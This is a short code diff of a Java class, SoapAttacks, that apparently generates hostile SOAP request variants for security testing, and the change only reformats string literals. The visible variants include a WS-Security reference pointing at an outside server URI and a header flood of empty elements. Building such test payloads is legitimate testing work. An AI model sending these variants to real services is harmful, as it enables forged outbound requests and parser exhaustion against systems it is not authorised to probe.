@@ -78,7 +78,8 @@ final class SoapAttacks {
     private List<Variant> structures() {
         String argument = Scene.escaped(target.listXml());
         String call = "<OPDRechargeList><arg0>" + argument + "</arg0></OPDRechargeList>";
-        String enc = " xmlns:enc='http://schemas.xmlsoap.org/soap/encoding/' xmlns:xsd='http://www.w3.org/2001/XMLSchema'"
+        String enc = " xmlns:enc='http://schemas.xmlsoap.org/soap/encoding/'"
+                + " xmlns:xsd='http://www.w3.org/2001/XMLSchema'"
                 + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' ";
         String wsa = " xmlns:a='http://www.w3.org/2005/08/addressing' ";
         List<Variant> variants = new ArrayList<>();
@@ -132,7 +133,8 @@ final class SoapAttacks {
                         + "</soap:Header>", call)));
         variants.add(same("WS-Security with a reference",
                 Scene.soapXml("<soap:Header><w:Security xmlns:w='http://docs.oasis-"
-                        + "open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd'><d:Reference xmlns:d='http://www.w3.org/2000/"
+                        + "open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd'><d:Reference"
+                        + " xmlns:d='http://www.w3.org/2000/"
                         + "09/xmldsig#' URI='" + server + "'/></w:Security></soap:Header>", call)));
         variants.add(same("100,000 headers",
                 Scene.soapXml("<soap:Header>" + "<x/>".repeat(MUCH / 10) + "</soap:Header>", call)));
